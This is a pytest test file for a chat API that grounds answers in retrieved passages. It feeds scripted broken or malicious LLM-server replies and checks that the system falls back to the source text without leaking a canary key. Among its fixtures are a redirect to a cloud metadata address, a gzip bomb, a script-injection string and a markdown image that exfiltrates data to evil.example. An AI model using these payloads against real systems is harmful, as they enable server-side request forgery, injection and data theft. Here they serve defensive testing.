"""Whatever the language model's server does, the pages' own words answer, in time, and nothing of it gets out."""

import asyncio
import gzip
import json
import logging
import socket
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from api.chat.answering import Answering
from api.chat.response import ChatCompletion
from api.generation.generator import CONCURRENCY, FAILURES_TO_OPEN, Generator
from api.generation.upstream import MAX_BYTES, Upstream
from api.query.response import QueryResponse
from api.setting_kinds import Secret
from tests.fakes_api import small_collection
from tests.hashing import HashingEncoder
from tests.scripted_llm import (
    Behaviour,
    ScriptedServer,
    completion,
    drips,
    event,
    head,
    held,
    says,
    scripted,
    sends,
    stalls,
)
from tests.waiting import PATIENCE_S, wait_until

QUESTION = "what is denosumab used for?"
GOOD = "Denosumab is used in cancer [1]."
CANARY = "canary7f3a"
SHORT_S = 0.8
"""The time of a reply where it is to run out."""
DONE = b"data: [DONE]\n\n"
EVENTS = head(content_type="text/event-stream")


def both(whole: bytes, streamed: bytes) -> Behaviour:
    """Sends one completion whole, or these events."""
    return sends(head() + whole, EVENTS + streamed)


def failing(status: int, extra: str = "") -> Behaviour:
    return sends(head(status, extra=extra) + json.dumps({"error": {"message": CANARY}}).encode())


def reset(connection: socket.socket, _: bool) -> None:
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")


BROKEN: dict[str, tuple[Behaviour, str]] = {
    "closes at once": (sends(b""), "unreachable"),
    "resets": (reset, "unreachable"),
    "speaks another protocol": (sends(b"SSH-2.0-OpenSSH\r\n"), "unreachable"),
    "never answers": (stalls(), "timeout"),
    "sends a head and stalls": (stalls(head()), "timeout"),
    "stalls in the middle": (stalls(EVENTS + event("Denosumab is ")), "timeout"),
    "one byte at a time": (drips([bytes([byte]) for byte in EVENTS], every_s=1), "timeout"),
    "pings for ever": (drips([EVENTS, *[b": ping\n\n"] * 600], every_s=0.1), "timeout"),
    "HTML": (sends(head(content_type="text/html") + f"<h1>{CANARY}</h1>".encode()), "malformed"),
    "an empty body": (sends(head()), "empty"),
    "an empty stream": (sends(EVENTS), "empty"),
    "204": (sends(b"HTTP/1.1 204 X\r\n\r\n"), "malformed"),
    "400": (failing(400), "refused"),
    "401": (failing(401), "refused"),
    "403": (failing(403), "refused"),
    "404": (failing(404), "refused"),
    "408": (failing(408), "refused"),
    "413": (failing(413), "too_large"),
    "429": (failing(429), "rate_limited"),
    "429 with a wait": (failing(429, "Retry-After: 3600\r\n"), "rate_limited"),
    "500": (failing(500), "server_error"),
    "501": (failing(501), "server_error"),
    "502": (failing(502), "server_error"),
    "503": (failing(503), "server_error"),
    "529": (failing(529), "server_error"),
    "redirect": (failing(302, "Location: http://169.254.169.254/latest/meta-data\r\n"), "redirect"),
    "redirect that keeps the method": (failing(307, "Location: http://127.0.0.1:1/v1\r\n"), "redirect"),
    "a compressed bomb": (
        sends(head(extra="Content-Encoding: gzip\r\n") + gzip.compress(b"0" * 10_000_000)),
        "malformed",
    ),
    "a huge body": (sends(head() + b" " * (MAX_BYTES + 1)), "too_large"),
    "a huge stream": (sends(EVENTS + b": x\n" * (MAX_BYTES // 3)), "too_large"),
    "a huge event": (sends(EVENTS + event("x" * 70_000)), "too_large"),
    "a line without end": (sends(EVENTS + b"data: " + b"x" * (MAX_BYTES + 1)), "too_large"),
    "no JSON": (both(b"{bad", b"data: {bad\n\n"), "malformed"),
    "a list": (both(b"[]", b"data: []\n\n"), "malformed"),
    "nested too deep": (both(b"[" * 100_000, b"data: " + b"[" * 30_000 + b"\n\n"), "malformed"),
    "an endless number": (
        both(b'{"choices": ' + b"9" * 6_000 + b"}", b"data: " + b"9" * 6_000 + b"\n\n"),
        "malformed",
    ),
    "no UTF-8": (both(completion("x").replace(b"x", b"\xff"), b"data: \xff\n\n"), "malformed"),
    "choices are a word": (both(b'{"choices": "x"}', b'data: {"choices": "x"}\n\n'), "malformed"),
    "no choices": (both(b'{"choices": []}', b'data: {"choices": []}\n\n' + DONE), "empty"),
    "content is null": (both(completion(None), event(None, "stop") + DONE), "empty"),
    "content is a number": (both(completion(7), event(7) + DONE), "malformed"),
    "content is a list": (both(completion([GOOD]), event([GOOD]) + DONE), "malformed"),
    "an error with 200": (
        both(
            b'{"error": {"message": "canary7f3a"}}',
            event("Deno") + b'data: {"error": {"message": "canary7f3a"}}\n\n',
        ),
        "server_error",
    ),
    "cut off by length": (
        both(completion("Denosumab is", "length"), event("Denosumab is", "length") + DONE),
        "cut_off",
    ),
    "filtered": (
        both(completion("x y z.", "content_filter"), event("x y z.", "content_filter") + DONE),
        "cut_off",
    ),
    "calls a tool": (both(completion("x", "tool_calls"), event("x", "tool_calls") + DONE), "cut_off"),
    "a stream without its end": (sends(EVENTS + event("Denosumab is used")), "cut_off"),
    "half a body": (sends(head(extra="Content-Length: 5000\r\n") + completion(GOOD)), "unreachable"),
}

REJECTED = {
    "nonsense": "Purple elephants regulate your quarterly spreadsheet [1].",
    "declines": "NONE",
    "a passage that was not given": "Denosumab is used in cancer [99].",
    "a script": "<script>alert(1)</script> Denosumab is used in cancer [1].",
    "an image that carries data away": "Denosumab is used in cancer ![x](http://evil.example/?q=secret) [1].",
}

WHOLE = {
    "well behaved": says(GOOD),
    "one character at a time": says(GOOD, pieces=1),
    "a stream with comments and pings": sends(
        head() + completion(GOOD), EVENTS + b": hello\n\nevent: x\nid: 1\n\n" + event(GOOD, "stop") + DONE
    ),
    "CR LF": sends(head() + completion(GOOD), EVENTS + (event(GOOD, "stop") + DONE).replace(b"\n", b"\r\n")),
    "CR": sends(head() + completion(GOOD), EVENTS + (event(GOOD, "stop") + DONE).replace(b"\n", b"\r")),
    "a second end": both(completion(GOOD), event(GOOD, "stop") + DONE + DONE + event("Evil.")),
    "an end without [DONE]": both(completion(GOOD), event(GOOD, "stop")),
    "a whole reply where a stream was asked for": sends(head() + completion(GOOD)),
    "a stream where none was asked for": sends(EVENTS + event(GOOD, "stop") + DONE),
    "no reason for its end": both(completion(GOOD, None), event(GOOD) + DONE),
    "letters split between pieces": drips(
        [EVENTS, *(bytes([byte]) for byte in event(f"{GOOD} Ünïcödé wörds.", "stop") + DONE)], every_s=0
    ),
}


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> QueryResponse:
    with small_collection(tmp_path_factory.mktemp("upstream")) as client:
        return QueryResponse.model_validate_json(client.post("/v1/query", json={"query": QUESTION}).text)


async def completed(
    found: QueryResponse, server: ScriptedServer, *, stream: bool, times: int = 1, timeout_s: float = PATIENCE_S
) -> list[ChatCompletion]:
    """Replies to the same question, one after the other, from one generator."""
    generator = Generator(Upstream(server.url, "m", Secret(f"sk-{CANARY}")), timeout_s=timeout_s)
    try:
        replies = []
        for _ in range(times):
            answering = Answering(found, HashingEncoder(), generator, stream=stream)
            async for _piece in answering.pieces():
                pass
            replies.append(answering.completion())
        return replies
    finally:
        await generator.close()


def quoted(found: QueryResponse) -> str:
    """What is replied without a model."""

    async def reply() -> str:
        answering = Answering(found, HashingEncoder(), None, stream=False)
        return "".join([piece async for piece in answering.pieces()])

    return asyncio.run(reply())


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_server_leaves_the_pages_own_words(
    found: QueryResponse, name: str, stream: bool, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    behave, reason = BROKEN[name]
    with scripted(behave) as server:
        limit = SHORT_S if reason == "timeout" else PATIENCE_S
        (reply,) = asyncio.run(completed(found, server, stream=stream, timeout_s=limit))
    assert reply.generation is not None
    assert reply.generation.status == "unavailable"
    accepted = {reason, "cut_off"} if name == "half a body" else {reason}
    assert reply.generation.reason in accepted
    assert reply.choices[0].message.content == quoted(found)
    assert reply.citations == [passage.citation for passage in found.passages]
    assert CANARY not in reply.model_dump_json()
    assert CANARY not in "\n".join(record.getMessage() for record in caplog.records)
    assert len(server.bodies) <= 2


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", REJECTED)
def test_a_reply_that_no_page_supports_is_replaced(found: QueryResponse, name: str, stream: bool) -> None:
    with scripted(says(REJECTED[name])) as server:
        (reply,) = asyncio.run(completed(found, server, stream=stream))
    assert reply.generation is not None
    assert (reply.generation.status, reply.generation.reason) == ("rejected", "nothing_supported")
    assert reply.generation.dropped >= 1
    assert reply.choices[0].message.content == quoted(found)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", WHOLE)
def test_a_whole_reply_is_read_however_it_is_sent(found: QueryResponse, name: str, stream: bool) -> None:
    with scripted(WHOLE[name]) as server:
        (reply,) = asyncio.run(completed(found, server, stream=stream))
    assert reply.generation is not None
    assert (reply.generation.status, reply.generation.reason) == ("used", None)
    assert reply.choices[0].message.content.startswith("Denosumab is used in cancer. [1]")
    assert len(server.bodies) == 1
    assert f"Authorization: Bearer sk-{CANARY}" in server.heads[0]


def test_a_server_that_cannot_be_reached_or_found_is_unavailable(found: QueryResponse) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        free = listener.getsockname()[1]
    for url in (f"http://127.0.0.1:{free}/v1", "http://no-such-host.invalid/v1", f"https://127.0.0.1:{free}/v1"):
        server = ScriptedServer(says(GOOD), url=url)
        (reply,) = asyncio.run(completed(found, server, stream=False))
        assert reply.generation is not None
        assert reply.generation.reason == "unreachable"


def test_a_passing_fault_gets_one_more_try(found: QueryResponse) -> None:
    replies = iter([failing(503), says(GOOD)])
    with scripted(lambda connection, stream: next(replies)(connection, stream)) as server:
        (reply,) = asyncio.run(completed(found, server, stream=True))
    assert reply.generation is not None
    assert reply.generation.status == "used"
    assert len(server.bodies) == 2


def test_nothing_is_tried_again_once_a_word_has_come(found: QueryResponse) -> None:
    with scripted(sends(EVENTS + event("Denosumab is used in cancer [1]. It may"))) as server:
        (reply,) = asyncio.run(completed(found, server, stream=True))
    assert len(server.bodies) == 1
    assert reply.generation is not None
    assert reply.generation.status == "unavailable"
    content = reply.choices[0].message.content
    assert content.startswith("Denosumab is used in cancer. [1]\n\n(The generated answer broke off here.")
    assert content.endswith(quoted(found))


def test_the_circuit_opens_and_the_server_is_left_alone(found: QueryResponse) -> None:
    with scripted(failing(400)) as server:
        replies = asyncio.run(completed(found, server, stream=False, times=FAILURES_TO_OPEN + 3))
    reasons = [reply.generation.reason for reply in replies if reply.generation is not None]
    assert reasons == ["refused"] * FAILURES_TO_OPEN + ["circuit_open"] * 3
    assert len(server.bodies) == FAILURES_TO_OPEN


def test_more_replies_than_places_are_answered_from_the_pages_at_once(found: QueryResponse) -> None:
    async def many(server: ScriptedServer) -> list[str]:
        generator = Generator(Upstream(server.url, "m", None), timeout_s=PATIENCE_S)

        async def one() -> str:
            answering = Answering(found, HashingEncoder(), generator, stream=False)
            async for _ in answering.pieces():
                pass
            body = answering.completion().generation
            assert body is not None
            return body.status if body.reason is None else body.reason.value

        told = []
        try:
            for reply in asyncio.as_completed([one() for _ in range(CONCURRENCY + 3)]):
                told.append(await reply)
                if len(told) == 3:
                    go_on.set()
        finally:
            await generator.close()
        return told

    go_on = threading.Event()
    with scripted(held(says(GOOD), go_on)) as server:
        reasons = asyncio.run(many(server))
    assert reasons == ["busy"] * 3 + ["used"] * CONCURRENCY


def test_a_reader_who_leaves_frees_the_place(found: QueryResponse) -> None:
    async def leave(server: ScriptedServer) -> bool:
        generator = Generator(Upstream(server.url, "m", None), timeout_s=PATIENCE_S)
        try:
            for _ in range(CONCURRENCY + 1):
                pieces = Answering(found, HashingEncoder(), generator, stream=True).pieces()
                async for piece in pieces:
                    if "Denosumab" in piece:
                        break
                await pieces.aclose()
            return len(server.bodies) == CONCURRENCY + 1
        finally:
            await generator.close()

    with scripted(stalls(EVENTS + event("Denosumab is used in cancer [1]. It may "))) as server:
        assert asyncio.run(leave(server))


def test_a_slow_model_does_not_hold_up_a_query(tmp_path: Path) -> None:
    body = {"model": "footnoted", "messages": [{"role": "user", "content": QUESTION}]}
    go_on = threading.Event()
    with (
        scripted(held(says(GOOD), go_on)) as server,
        small_collection(tmp_path, llm_url=server.url, llm_model="m", llm_timeout_s=600, threads=1) as client,
        ThreadPoolExecutor(CONCURRENCY) as callers,
    ):
        chats = [callers.submit(client.post, "/v1/chat/completions", json=body) for _ in range(CONCURRENCY)]
        try:
            wait_until(lambda: len(server.bodies) == CONCURRENCY)
            assert client.post("/v1/query", json={"query": QUESTION}).status_code == 200
            assert not any(chat.done() for chat in chats)
        finally:
            go_on.set()
        assert [chat.result().json()["generation"]["status"] for chat in chats] == ["used"] * CONCURRENCY


def test_an_abstained_question_is_never_sent_to_the_model(tmp_path: Path) -> None:
    with (
        scripted(says(GOOD)) as server,
        small_collection(tmp_path, llm_url=server.url, llm_model="m") as client,
    ):
        body = {"model": "footnoted", "messages": [{"role": "user", "content": "zebra"}]}
        reply = client.post("/v1/chat/completions", json=body).json()
    assert reply["generation"] == {"status": "skipped", "reason": "abstained", "dropped": 0}
    assert server.bodies == []
